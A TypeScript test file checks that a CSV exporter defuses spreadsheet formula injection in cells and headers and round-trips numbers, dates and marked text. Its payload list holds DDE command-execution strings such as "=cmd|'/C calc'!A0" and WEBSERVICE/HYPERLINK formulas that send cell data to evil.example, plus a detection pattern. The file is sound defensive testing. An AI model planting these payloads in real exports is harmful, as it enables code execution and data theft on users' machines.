import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { SEPARATORS, type Separator } from '@/domain/tables/dialect';
import { withMark, withoutMark } from '@/domain/tables/formula-mark';
import { readNumber } from '@/domain/tables/read-number';
import type { Cell } from '@/domain/tables/table';
import { CSV_STYLES, toCsv } from '@/domain/tables/to-csv';
import { splitCsv } from '@/files/split-csv';

/** What stands in a cell of a text file, where there is one. */
const textIn = (cell: Cell | undefined): string => (typeof cell === 'string' ? cell : '');

/** Texts that spreadsheets would run, or that reach for cells and rows that are not theirs. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+9)*cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML("https://evil.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '\t=1+1',
  '\tText',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\rText',
  ' =1+1',
  '   -1+1',
  '\u00a0=1+1',
  '\u3000@A1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠A1',
  'harmless\n=1+1',
  'harmless\r\n+1+1',
  'harmless\r@A1',
  'harmless\n\t=1+1',
  '"=1+1',
  '";=1+1;"',
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  'a|=1+1',
  "'=1+1",
  "''=1+1",
  "'\r=1+1",
  '-',
  '-x',
  '=',
  '--1',
  '-3,5-',
  '+49 30 1234',
] as const;

/** What a spreadsheet makes a formula of: the cell, or a line of it, begins with one of these. */
const RUNS = /^[\s\u200b\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/;
const NUMBER = /^[+-]?\d+([.,]\d+)?$/;
const isHarmless = (text: string) =>
  !/^[\t\r\n]/.test(text) && text.split(/\r\n|\r|\n/).every((line) => NUMBER.test(line) || !RUNS.test(line));

function rowsOf(text: string, separator: Separator): Cell[][] {
  return [...splitCsv(text, { separator, quote: '"' })].flatMap(({ rows, broken }) => {
    expect(broken).toEqual([]);
    return rows.map((row) => [...row]);
  });
}

describe.each(Object.entries(CSV_STYLES))('an export in the style of %s', (_name, style) => {
  it.each(PAYLOADS)('never lets %j run, in a cell or a header, and gives it back exactly', (payload) => {
    const text = toCsv(
      [
        [payload, 'n'],
        ['Süd', payload, -3.5],
      ],
      style,
    );
    const [header = [], row = []] = rowsOf(text, style.separator);
    for (const cell of [header[0], row[1]]) {
      expect(isHarmless(textIn(cell))).toBe(true);
      expect(withoutMark(textIn(cell))).toBe(payload);
    }
    expect(row).toHaveLength(3);
  });

  it.each(PAYLOADS)('keeps %j in its cell whatever separator a reader takes', (payload) => {
    for (const separator of SEPARATORS) {
      const [row = []] = rowsOf(toCsv([[payload]], style), separator);
      expect(row.every((cell) => isHarmless(textIn(cell)))).toBe(true);
    }
  });
});

it('numbers stay numbers, negative ones too', () => {
  expect(toCsv([['Süd', -3.5, 1e21, null, true]], CSV_STYLES.de)).toBe('Süd;-3,5;1e+21;;true\r\n');
  expect(toCsv([['Süd', -3.5]], { ...CSV_STYLES.de, separator: ',' })).toBe('Süd,"-3,5"\r\n');
  expect(toCsv([['-3,5', '-3.5', '+7']], CSV_STYLES.de)).toBe('"-3,5";-3.5;+7\r\n');
});

it('dates are written as the language has them', () => {
  const row = [{ day: '2026-09-01' }, { moment: '2026-09-16T09:05' }];
  expect(toCsv([row], CSV_STYLES.de)).toBe('01.09.2026;16.09.2026 09:05\r\n');
  expect(toCsv([row], CSV_STYLES.en)).toBe('2026-09-01,2026-09-16 09:05\r\n');
});

const aText = fc.string({
  unit: fc.oneof(
    fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      "'",
      '"',
      ';',
      ',',
      '\t',
      '|',
      '\r',
      '\n',
      ' ',
      '\u00a0',
      '1',
      'a',
      'ü',
      '＝',
    ),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
  ),
  maxLength: 8,
});
const aStyle = fc.record({
  separator: fc.constantFrom(...SEPARATORS),
  decimal: fc.constantFrom(',' as const, '.' as const),
  dates: fc.constantFrom('dmy' as const, 'ymd' as const),
});

describe('whatever a table holds', () => {
  it('a marked text is harmless and is read back exactly', () => {
    fc.assert(
      fc.property(aText, (text) => {
        expect(isHarmless(withMark(text))).toBe(true);
        expect(withoutMark(withMark(text))).toBe(text);
      }),
      { numRuns: 5_000 },
    );
  });

  it('it comes out of the parser as it went in', () => {
    const aRow = fc.tuple(
      aText,
      fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e15, max: 1e15 }),
      aText,
    );
    fc.assert(
      fc.property(fc.array(aRow, { minLength: 1, maxLength: 5 }), aStyle, (rows, style) => {
        const back = rowsOf(toCsv(rows, style), style.separator).map(([first, number, last]) => [
          withoutMark(textIn(first)),
          readNumber(number ?? null, style.decimal),
          withoutMark(textIn(last)),
        ]);
        expect(back).toEqual(rows.map(([first, number, last]) => [first, number === 0 ? 0 : number, last]));
      }),
      {
        numRuns: 500,
        // What stands in quotes once looked like a blank before quotes.
        examples: [[[[', ', 0, ',']], { separator: ',', decimal: ',', dates: 'dmy' }]],
      },
    );
  });
});
